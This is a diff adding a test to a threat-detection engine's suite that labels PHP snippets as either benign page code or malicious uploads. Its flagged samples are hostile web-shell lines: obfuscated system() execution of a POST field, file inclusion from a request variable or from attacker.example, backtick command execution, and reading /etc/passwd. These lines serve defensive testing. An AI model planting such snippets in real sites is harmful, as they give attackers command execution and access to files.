@@ -418,6 +418,31 @@ def test_hash_brace_interpolation_of_a_value(
     assert engine.detect(value)["is_threat"] is flagged
 
 
+@pytest.mark.parametrize(
+    ("value", "flagged"),
+    [
+        ("<?php echo htmlspecialchars($user['name'], ENT_QUOTES, 'UTF-8'); ?>", False),
+        ("<?php foreach ($items as $item): ?><li><?= e($item->name) ?></li><?php endforeach; ?>",
+         False),
+        ("$name = $_GET['name'] ?? 'guest';", False),
+        ("<?php phpinfo(); ?>", True),
+        ("<?php $f='sys'.'tem';$f($_POST['x']); ?>", True),
+        ("<?php include $_GET['page']; ?>", True),
+        ("<?php include 'http://attacker.example/x.txt'; ?>", True),
+        ("<?php echo `id`; ?>", True),
+        ("<?php echo file_get_contents('/etc/passwd'); ?>", True),
+        ("<?= $_GET[0] ?>", True),
+    ],
+)
+def test_php_that_only_renders_its_page(
+    engine: DetectionEngine, value: str, flagged: bool
+) -> None:
+    """A PHP block that escapes and echoes its page's data, or code reading a request field,
+    is a page's own source; one that runs, evaluates, reads files, calls a name held in a
+    variable or includes from a variable or a URL is a malicious upload."""
+    assert engine.detect(value)["is_threat"] is flagged
+
+
 def test_documentation_showing_a_template_sum_reads_as_prose(engine: DetectionEngine) -> None:
     value = ("Angular interpolation uses double curly braces, so {{ 1 + 1 }} renders as 2 in "
              "the view.")
